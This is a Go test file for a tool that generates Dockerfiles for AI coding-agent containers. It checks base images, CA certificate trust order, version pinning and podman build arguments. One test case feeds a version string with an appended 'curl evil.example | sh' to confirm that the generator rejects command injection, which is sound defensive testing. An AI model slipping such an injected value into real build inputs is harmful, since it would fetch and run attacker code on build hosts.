package image

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestDockerfile(t *testing.T) {
	for _, a := range Agents() {
		df, err := Dockerfile(Options{Agent: a})
		if err != nil {
			t.Fatal(err)
		}
		s := string(df)
		for _, want := range []string{"ARG BASE_IMAGE=" + DefaultBase, "FROM ${BASE_IMAGE}", "USER 1000:1000", "WORKDIR /work", "COPY ralph /usr/local/bin/ralph"} {
			if !strings.Contains(s, want) {
				t.Errorf("%s: Dockerfile lacks %q:\n%s", a, want, s)
			}
		}
		if strings.Contains(s, "ralph-ca.crt") {
			t.Errorf("%s: a CA without --ca-file:\n%s", a, s)
		}
	}
	if _, err := Dockerfile(Options{Agent: "aider"}); err == nil {
		t.Error("unknown agent accepted")
	}
	df, _ := Dockerfile(Options{Agent: "claude", Base: "node:20", Version: "2.1.332", CAFile: "/etc/ssl/certs/ca-certificates.crt"})
	for _, want := range []string{"ARG BASE_IMAGE=node:20", "npm install -g @anthropic-ai/claude-code@2.1.332",
		"COPY ralph-ca.crt " + CAPath, "RUN update-ca-certificates", "ENV NODE_EXTRA_CA_CERTS=" + CAPath} {
		if !strings.Contains(string(df), want) {
			t.Errorf("Dockerfile lacks %q:\n%s", want, df)
		}
	}
	// The CA is trusted before npm runs.
	if s := string(df); strings.Index(s, "NODE_EXTRA_CA_CERTS") > strings.Index(s, "npm install") {
		t.Errorf("the CA comes after npm:\n%s", s)
	}
	if df, _ := Dockerfile(Options{Agent: "copilot"}); !strings.Contains(string(df), "ENV COPILOT_PKG_CACHE_HOME=/opt/copilot-pkg\nRUN copilot --version") {
		t.Errorf("copilot's addon is not unpacked into the image:\n%s", df)
	}
	for _, bad := range []Options{{Agent: "claude", Version: "1.0; curl evil.example | sh"}, {Agent: "cursor", Version: "1.0"}} {
		if _, err := Dockerfile(bad); err == nil {
			t.Errorf("%+v accepted", bad)
		}
	}
}

func TestBuildArgv(t *testing.T) {
	got := BuildArgv("podman", "ralph-codex:latest", "", "/tmp/ctx")
	want := []string{"podman", "build", "--tag", "ralph-codex:latest", "--build-arg", "BASE_IMAGE=" + DefaultBase, "/tmp/ctx"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if got := BaseArgv("trixie", "http://deb.debian.org/debian"); got[0] != "mmdebstrap" || !strings.Contains(strings.Join(got, " "), "nodejs,npm") {
		t.Errorf("BaseArgv = %q", got)
	}
}
